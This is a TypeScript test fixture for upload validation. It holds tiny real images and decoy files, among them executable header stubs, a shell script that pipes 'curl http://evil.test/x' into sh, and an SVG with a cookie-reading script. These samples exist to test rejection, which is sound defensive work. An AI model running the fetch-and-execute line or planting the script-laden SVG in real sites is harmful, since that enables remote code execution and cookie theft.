/**
 * Real 1x1 images (an orange pixel encoded by Chromium's canvas, the colour profile left out; each decodes
 * in Chromium) and files that only pretend to be images, for the upload tests.
 */
const fromBase64 = (text: string) => Buffer.from(text, 'base64');

export const PNG_1X1 = fromBase64(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4AWJ6FKH0HwAAAP//myrfwAAAAAZJREFUAwAF4gJelT+B4wAAAABJRU5ErkJggg==',
);

export const JPEG_1X1 = fromBase64(
  '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAMCAgMCAgMDAwMEAwMEBQgFBQQEBQoHBwYIDAoMDAsKCwsNDhIQDQ4RDgsLEBYQERMU' +
    'FRUVDA8XGBYUGBIUFRT/2wBDAQMEBAUEBQkFBQkUDQsNFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQU' +
    'FBQUFBQUFBT/wAARCAABAAEDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAT/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QA' +
    'FAEBAAAAAAAAAAAAAAAAAAAACP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AIgB6MN//9k=',
);

export const WEBP_1X1 = fromBase64(
  'UklGRj4AAABXRUJQVlA4IDIAAAAwAgCdASoBAAEAAMASJaACdLoB+AH6AAToAAD+2ib/8GYPT5n/w5T/68wELuHf+utAAA==',
);

/** A 64-bit Linux executable's header (ELF magic, class, endianness, version), then zeros. */
export const ELF_EXECUTABLE = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
  Buffer.alloc(8),
  Buffer.from([0x02, 0x00, 0x3e, 0x00, 0x01, 0x00, 0x00, 0x00]),
  Buffer.alloc(104),
]);

/** A Windows executable: the MZ stub pointing at a PE header. */
export const PE_EXECUTABLE = (() => {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x014c, 0x84);
  return bytes;
})();

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl -s http://evil.test/x | sh\n');

/** An image, but not one of the accepted types (GIF), and a script-carrying SVG. */
export const GIF_1X1 = fromBase64('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==');
export const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);

/** A valid PNG padded with trailing bytes to exactly `size` bytes (readers stop at IEND). */
export function pngOfSize(size: number): Buffer {
  return Buffer.concat([PNG_1X1, Buffer.alloc(size - PNG_1X1.byteLength, 0x2a)]);
}
